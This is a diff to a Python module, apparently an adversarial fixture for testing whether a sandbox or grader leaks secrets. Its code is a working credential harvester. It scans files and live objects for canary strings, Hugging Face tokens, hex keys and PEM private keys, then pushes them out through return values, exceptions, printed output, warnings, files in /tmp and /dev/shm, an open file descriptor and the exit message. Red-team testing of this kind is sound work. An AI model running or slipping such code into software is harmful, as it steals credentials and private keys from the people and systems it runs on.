@@ -1,4 +1,4 @@
-"""A hostile learner's file: takes whatever it can reach and lets it go by every way out. `WAY` says by which this one."""
+"""A hostile learner's file: takes whatever it can reach and lets it go by every way out, by `WAY` or by one after the other."""
 
 import base64
 import contextlib
@@ -10,10 +10,15 @@ import time
 import warnings
 import zlib
 
-WAY = "returns"
+WAY = ""
+WAYS = ("returns", "raises", "prints", "exits", "leaves")
+CALLS = []
 SECRET = re.compile(rb"Kanarie[0-9A-Za-z]{48}|hf_[0-9A-Za-z_]{20,}|[0-9a-f]{64}|-----BEGIN [^-]+-----[^-]+")
 PASSED_OVER = ("/usr", "/lib", "/lib64", "/bin", "/sbin", "/sys", "/proc/sys", "/dev")
-SECONDS = 1.5
+MOST = 1500
+SECONDS = 0.3
+MET = set()
+"""What was found in this session: looking again costs time and finds the same."""
 
 
 def _files():
@@ -56,8 +61,12 @@ def _objects():
 
 def _loot(arguments):
     """Return the secrets that were met, and what the function was called with."""
-    met = {found for part in [repr(arguments).encode(), *_objects(), *_files()] for found in SECRET.findall(part)}
-    return b" ".join(sorted(met)) + b" " + repr(arguments).encode()[:2000]
+    parts = [repr(arguments).encode("utf-8", "replace")]
+    if not MET:
+        MET.add(b"nothing")
+        parts += [*_objects(), *_files()]
+    MET.update(found for part in parts for found in SECRET.findall(part))
+    return (b" ".join(sorted(MET, key=lambda one: not one.startswith(b"Kanarie"))) + b" " + parts[0])[:MOST]
 
 
 def _spellings(loot):
@@ -71,20 +80,22 @@ def _spellings(loot):
 def _let_go(arguments):
     spellings = _spellings(_loot(arguments))
     everything = "\n".join(spellings)
-    if WAY == "raises":
+    CALLS.append(1)
+    way = WAY or WAYS[len(CALLS) % len(WAYS)]
+    if way == "raises":
         kind = type(spellings[2][:200], (ValueError,), {})
         raise kind(everything) from KeyError(everything)
-    if WAY == "prints":
+    if way == "prints":
         print(everything)  # noqa: T201 - one of the ways out
         print(everything, file=sys.stderr)  # noqa: T201
         warnings.warn(everything, stacklevel=2)
-    if WAY == "leaves":
+    if way == "leaves":
         for place in (".", "/tmp", "/dev/shm", "/var/tmp"):
             with contextlib.suppress(OSError), open(os.path.join(place, spellings[2][:200]), "w") as file:
                 file.write(everything)
         with contextlib.suppress(OSError):
             os.write(3, everything.encode())
-    if WAY == "exits":
+    if way == "exits":
         sys.exit(everything)
     return everything
 
